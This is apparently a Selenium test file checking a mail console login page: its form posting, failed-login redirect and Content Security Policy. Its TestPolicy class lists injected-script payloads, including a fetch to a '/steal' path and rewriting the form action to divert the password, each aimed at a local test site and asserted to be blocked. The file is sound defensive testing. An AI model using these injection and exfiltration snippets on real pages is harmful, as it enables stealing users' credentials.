"""The console login page in a real browser: it posts to the platform, and nothing else can happen on it."""

from collections.abc import Iterator
from dataclasses import dataclass, field

import pytest
from selenium.webdriver import Chrome
from selenium.webdriver.common.by import By
from selenium.webdriver.support.expected_conditions import title_is, url_contains
from selenium.webdriver.support.ui import Select, WebDriverWait
from starlette.responses import HTMLResponse
from starlette.types import ASGIApp, Receive, Scope, Send

from app.sandbox import Account, Sandbox
from tests.browser.conftest import Network, Servers
from tests.support.running import make_app
from tests.support.tenants import READ_KEY, make_tenant

PATH = "/v1/console/login"
PASSWORD = "pässwort & <b>"


@dataclass
class FrontEnd:
    """What stands between browsers and the gateway: it adds the API key, and it remembers what passes."""

    app: ASGIApp
    seen: list[str] = field(default_factory=list)

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        """Handle one ASGI scope."""
        if scope["type"] == "http":
            self.seen.append(f"{scope['method']} {scope['path']}?{scope['query_string'].decode()}")
            scope["headers"] = [*scope["headers"], (b"x-api-key", READ_KEY.encode())]
        await self.app(scope, receive, send)


@dataclass
class Elsewhere:
    """Another site: the page that a wrong login comes back to, and whatever else is asked of it."""

    seen: list[str] = field(default_factory=list)

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        """Handle one ASGI scope."""
        if scope["type"] == "http":
            self.seen.append(f"{scope['method']} {scope['path']}")
            await HTMLResponse("<!DOCTYPE html><title>Login failed</title>")(scope, receive, send)


@dataclass
class Site:
    """Everything that runs: platform, gateway and another site."""

    sandbox: Sandbox
    front_end: FrontEnd
    elsewhere: Elsewhere
    origin: str
    elsewhere_origin: str

    @property
    def page(self) -> str:
        """The page's URL, with the way back."""
        return f"{self.origin}{PATH}?errurl={self.elsewhere_origin}/failed&user_type=manager"


@pytest.fixture
def site(servers: Servers) -> Iterator[Site]:
    """The gateway behind a front end, in front of a sandbox with a customer and a manager."""
    sandbox = Sandbox([Account("acme", PASSWORD), Account("boss", PASSWORD, role="manager")])
    servers.run(sandbox.start())
    app = make_app([make_tenant(base_url=sandbox.base_url)])
    front_end, elsewhere = FrontEnd(app), Elsewhere()
    yield Site(sandbox, front_end, elsewhere, servers.serve(front_end), servers.serve(elsewhere))
    servers.run(sandbox.stop())


def log_in(driver: Chrome, username: str, password: str, kind: str | None = None) -> None:
    driver.find_element(By.NAME, "username").send_keys(username)
    driver.find_element(By.NAME, "password").send_keys(password)
    if kind:
        Select(driver.find_element(By.NAME, "user_type")).select_by_visible_text(kind)
    driver.find_element(By.NAME, "Submit").click()


def wait(driver: Chrome) -> WebDriverWait[Chrome]:
    return WebDriverWait(driver, 10)


def violations(driver: Chrome) -> list[str]:
    """Return the directives that the page's policy has enforced since `watch`."""
    found: list[str] = driver.execute_script("return window.violations")
    return found


def watch(driver: Chrome) -> None:
    driver.execute_script(
        "window.violations = [];"
        "document.addEventListener('securitypolicyviolation', e => window.violations.push(e.effectiveDirective))"
    )


class TestLogin:
    def test_goes_to_the_platform_and_not_to_the_gateway(self, site: Site, driver: Chrome, network: Network) -> None:
        driver.get(f"{site.origin}{PATH}")
        assert (driver.title, network.console()) == ("U-Mail console login", [])
        log_in(driver, "acme", PASSWORD)
        wait(driver).until(url_contains("/sendstat/"))
        assert "登录成功" in driver.page_source
        (call,) = site.sandbox.calls
        assert call.form == {"username": "acme", "password": PASSWORD, "user_type": "", "Submit": "提交"}
        assert call.query == {"module": "base", "action": "login"}
        assert "Referer" not in call.headers
        assert site.front_end.seen == [f"GET {PATH}?"]
        assert (network.abroad(), network.failed()) == ([], [])

    def test_as_the_kind_of_user_chosen(self, site: Site, driver: Chrome) -> None:
        driver.get(f"{site.origin}{PATH}")
        log_in(driver, "boss", PASSWORD, "Manager")
        wait(driver).until(url_contains("/sendstat/"))
        assert (site.sandbox.calls[-1].form["user_type"], site.sandbox.calls[-1].account) == ("manager", "boss")

    def test_a_wrong_one_comes_back(self, site: Site, driver: Chrome, network: Network) -> None:
        driver.get(site.page)
        log_in(driver, "boss", "wrong")
        wait(driver).until(title_is("Login failed"))
        assert driver.current_url == f"{site.elsewhere_origin}/failed"
        (call,) = site.sandbox.calls
        assert call.form["errurl"] == f"{site.elsewhere_origin}/failed"
        assert (call.form["username"], call.form["user_type"]) == ("boss", "manager")
        assert (network.abroad(), network.failed()) == ([], [])

    def test_needs_a_name_and_a_password(self, site: Site, driver: Chrome) -> None:
        driver.get(f"{site.origin}{PATH}")
        log_in(driver, "acme", "")
        assert driver.execute_script("return document.activeElement.name") == "password"
        assert site.sandbox.calls == []


class TestPolicy:
    @pytest.mark.parametrize(
        "attack",
        [
            "const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.body.append(s)",
            "const s = document.createElement('script'); s.src = ELSEWHERE + '/x.js'; document.body.append(s)",
            "document.body.setAttribute('onclick', 'window.ran = 1'); document.body.click()",
        ],
    )
    def test_an_injected_script_does_not_run(self, site: Site, driver: Chrome, attack: str) -> None:
        driver.get(site.page)
        watch(driver)
        driver.execute_script(attack.replace("ELSEWHERE", f"'{site.elsewhere_origin}'"))
        wait(driver).until(violations)
        assert violations(driver)[0].startswith("script-src")
        assert driver.execute_script("return window.ran") is None
        assert site.elsewhere.seen == []

    @pytest.mark.parametrize(
        ("attack", "directive"),
        [
            ("const i = new Image(); i.src = ELSEWHERE + '/x.png'; document.body.append(i)", "img-src"),
            ("fetch(ELSEWHERE + '/steal').catch(() => 0)", "connect-src"),
            ("const b = document.createElement('base'); b.href = ELSEWHERE; document.head.append(b)", "base-uri"),
            ("const f = document.createElement('iframe'); f.src = ELSEWHERE; document.body.append(f)", "frame-src"),
            (
                "const s = document.createElement('style'); s.textContent = '*{color:red}'; document.head.append(s)",
                "style-src-elem",
            ),
        ],
    )
    def test_nothing_is_loaded(self, site: Site, driver: Chrome, attack: str, directive: str) -> None:
        driver.get(site.page)
        watch(driver)
        driver.execute_script(attack.replace("ELSEWHERE", f"'{site.elsewhere_origin}'"))
        wait(driver).until(violations)
        assert violations(driver) == [directive]
        assert site.elsewhere.seen == []

    def test_the_password_goes_nowhere_else(self, site: Site, driver: Chrome) -> None:
        driver.get(f"{site.origin}{PATH}")
        watch(driver)
        driver.execute_script(f"document.forms[0].action = '{site.elsewhere_origin}/steal'")
        log_in(driver, "acme", PASSWORD)
        wait(driver).until(violations)
        assert violations(driver) == ["form-action"]
        assert site.elsewhere.seen == []

    def test_the_style_applies(self, site: Site, driver: Chrome, network: Network) -> None:
        driver.get(site.page)
        button = driver.find_element(By.NAME, "Submit")
        assert button.value_of_css_property("cursor") == "pointer"
        assert network.console() == []
